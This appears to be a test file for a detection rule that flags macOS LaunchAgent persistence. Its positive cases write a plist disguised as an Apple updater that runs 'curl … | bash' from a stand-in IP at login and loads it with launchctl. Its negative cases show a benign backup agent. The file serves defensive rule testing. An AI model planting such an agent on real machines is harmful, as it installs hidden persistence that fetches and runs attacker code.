# ruleid: sh-launch-agent-persistence
cat > ~/Library/LaunchAgents/com.apple.updater.plist <<EOF
<key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string>
<string>curl -s http://203.0.113.7/a.sh | bash</string></array>
<key>RunAtLoad</key><true/>
EOF
# ruleid: sh-launch-agent-persistence
launchctl load ~/Library/LaunchAgents/com.apple.updater.plist
# ===== block =====
# ok: sh-launch-agent-persistence
cat > ~/Library/LaunchAgents/com.example.backup.plist <<EOF
<key>ProgramArguments</key><array><string>/usr/local/bin/backup.sh</string></array>
<key>StartCalendarInterval</key><dict><key>Hour</key><integer>2</integer></dict>
EOF
# ok: sh-launch-agent-persistence
launchctl load ~/Library/LaunchAgents/com.example.backup.plist
